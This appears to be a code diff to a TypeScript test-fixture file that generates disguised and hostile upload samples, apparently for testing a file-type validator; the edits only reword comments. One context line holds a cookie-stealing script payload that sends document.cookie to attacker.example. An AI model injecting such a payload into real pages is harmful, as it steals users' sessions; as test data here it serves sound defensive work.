@@ -6,7 +6,7 @@ import type { Sample } from './samples.ts'
 /** MP4 and MOV are one family: each may have the other's name. */
 const familyOf = (contentType: string): string => contentType.replace('quicktime', 'mp4')
 
-/** Files that say they are something else: by their name, by the type they come with, or by both. */
+/** Files that pretend to be something else: by their name, their declared type, or both. */
 export function* lies(all: readonly Sample[]): Generator<HostileFile> {
   const names = ['jpeg', 'png', 'gif', 'webp', 'film-mp4', 'film-mov', 'film-webm', 'film-avi']
   const kinds = names.flatMap((name) => all.find((sample) => sample.name === name) ?? [])
@@ -66,7 +66,7 @@ const honest = [
   ['empty', 'nothing', 'application/octet-stream'],
 ] as const
 
-/** What no network takes, and what browsers would run. */
+/** Files that no network accepts and that browsers would execute. */
 function strangers(): ReadonlyMap<string, Buffer> {
   const script = '<script>fetch("//attacker.example/"+document.cookie)</script>'
   const zip = deflateRawSync(Buffer.from(script))
